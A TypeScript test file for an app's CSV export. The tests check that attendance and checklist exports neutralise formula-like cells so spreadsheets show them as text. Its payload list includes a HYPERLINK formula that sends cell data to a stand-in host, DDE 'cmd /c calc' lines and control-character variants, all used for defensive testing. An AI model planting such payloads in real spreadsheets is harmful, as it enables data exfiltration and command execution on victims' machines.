import { describe, expect, it } from 'vitest';
import { formatCsv, isFormulaLike } from '../../../src/shared/csv';
import { formatAttendanceCsv } from '../../../src/state/attendance-report-model';
import { formatChecklistCsv } from '../../../src/state/checklist-export-model';
import type { EventRun } from '../../../src/state/event-checklists-model';
import type { LocalAttendance } from '../../../src/state/attendance-model';
import { parseCsv } from '../../helpers/csv';

/** A spreadsheet splits the file into cells (RFC 4180), then reads each cell as below. */
const openAsSpreadsheet = parseCsv;

/** What a spreadsheet makes of a cell: a formula it evaluates, or text it shows. */
function readCell(cell: string): { kind: 'formula' | 'text'; shows: string } {
  if (cell.startsWith("'")) return { kind: 'text', shows: cell.slice(1) };
  return { kind: isFormulaLike(cell) ? 'formula' : 'text', shows: cell };
}

const PAYLOADS = [
  '=HYPERLINK("https://evil.example/?d="&C2&I2,"Ver certificado")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '=cmd|\'/c calc\'!A1',
  '＝1+1',
  '\u0000=1',
];

describe('the shared CSV writer', () => {
  it.each(PAYLOADS)('a cell typed as %j opens as the text that was typed, never as a formula', (payload) => {
    const csv = formatCsv([['Nombre'], [payload]]);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const [header, row] = openAsSpreadsheet(csv.slice(1));
    expect(header).toEqual(['Nombre']);
    expect(row).toHaveLength(1);
    expect(readCell(row![0]!)).toEqual({ kind: 'text', shows: payload });
  });

  it.each(['María Ñahui', 'Municipalidad Distrital de Independencia, Huaraz', 'Dijo "sí"', '2026-12-01 09:05', "O'Higgins", 'a=b', 'x-1'])(
    'ordinary text %j is written unchanged (quotes doubled, commas kept in the cell)',
    (text) => {
      const [, row] = openAsSpreadsheet(formatCsv([['x'], [text]]).slice(1));
      expect(row).toEqual([text]);
    },
  );

  it('numbers the app computed stay bare numbers; text that looks like a negative number is neutralised', () => {
    const csv = formatCsv([[3, 0, '-3']]);
    expect(csv).toBe('\uFEFF3,0,"\'-3"\r\n');
  });

  it('every line, the last one too, ends with CRLF', () => {
    expect(formatCsv([['a', 'b'], ['c', 'd']])).toBe('\uFEFF"a","b"\r\n"c","d"\r\n');
  });
});

describe('every CSV the app writes goes through it', () => {
  it('the attendance CSV writes a name typed at the door as text', () => {
    const row: LocalAttendance = {
      id: '0193f000-0000-7000-8000-0000000000aa', workshopId: 'w', recordedBy: null, recordedAt: '2026-12-01T14:05:00.000Z', mergedIds: [], updatedAt: '',
      consent: { given: true, textVersion: 'ley29733-2026-11-v1' },
      person: { fullName: PAYLOADS[0]!, entityType: 'otra', entityName: '@SUM(1)', governmentLevel: 'otro', regionCode: '05', email: 'a@b.pe', phone: '+51 966 123 456' },
    };
    const [, line] = openAsSpreadsheet(formatAttendanceCsv([row]).slice(1));
    const cells = line!.map(readCell);
    expect(cells.filter((c) => c.kind === 'formula')).toEqual([]);
    expect(cells.map((c) => c.shows)).toEqual(expect.arrayContaining([PAYLOADS[0], '@SUM(1)', '+51 966 123 456']));
    expect(line!.at(-1)).toBe('0');
  });

  it('the checklist CSV writes a note that starts like a formula as text', () => {
    const item = { text: '-2+3', state: { note: '=1+1', done: true }, applies: true, isOverdue: false, dueDate: '2026-07-27' };
    const runs = [{ isRemoved: false, view: { title: '+Lista', sections: [{ title: '@Sección', items: [item] }] } }] as unknown as EventRun[];
    const [header, line] = openAsSpreadsheet(formatChecklistCsv(runs).slice(1));
    expect(header![0]).toBe('Lista');
    expect(line!.map(readCell).filter((c) => c.kind === 'formula')).toEqual([]);
    expect(line!.map((c) => readCell(c).shows).slice(0, 3)).toEqual(['+Lista', '@Sección', '-2+3']);
  });
});
